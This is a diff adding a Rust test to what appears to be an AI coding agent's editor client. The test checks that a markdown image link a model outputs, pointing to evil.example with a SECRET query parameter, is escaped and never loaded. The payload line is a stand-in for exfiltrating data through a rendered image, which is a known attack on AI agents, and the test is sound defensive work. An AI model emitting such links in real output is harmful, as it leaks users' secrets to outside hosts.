@@ -488,3 +488,30 @@ turns:
     assert!(!home.work("a.txt").exists() && !home.work("b.txt").exists());
     assert_eq!(client.shut_down(), 0);
 }
+
+#[test]
+fn no_client_loads_an_image_that_a_model_names() {
+    let image = "![x](https://evil.example/p.png?d=SECRET)";
+    let scenario = format!(
+        "turns:\n  - {{ text: \"{image}\", calls: [{{ tool: attempt_completion, params: {{ result: \"Done <b> {image}\" }} }}] }}\n"
+    );
+    let home = Home::playing(&scenario);
+    let formats = json!({ "hover": { "contentFormat": ["markdown", "plaintext"] } });
+    let options = plain().with(json!({ "capabilities": { "textDocument": formats } }));
+    let mut client = Client::start(&home, options);
+    begin(&mut client, "Show it.", "code");
+    let shown = r"!\[x](https://evil.example/p.png?d=SECRET)";
+    let (document, text) = client.until_document(TASK, "**Completed:**");
+    assert!(
+        text.contains(&format!("\n{shown}\n")) && text.contains(&format!(r"Done \<b> {shown}")),
+        "{text}"
+    );
+    assert!(!text.contains("![x]"), "{text}");
+    let line = text.lines().position(|line| line == "**Completed:**").unwrap();
+    let place = json!({ "textDocument": { "uri": document }, "position": { "line": line, "character": 0 } });
+    let hover = client.request("textDocument/hover", place);
+    assert_eq!(hover["contents"]["kind"], "markdown");
+    let told = hover["contents"]["value"].as_str().unwrap();
+    assert!(told.ends_with(&format!(r"Done \<b> {shown}")), "{told}");
+    client.shut_down();
+}
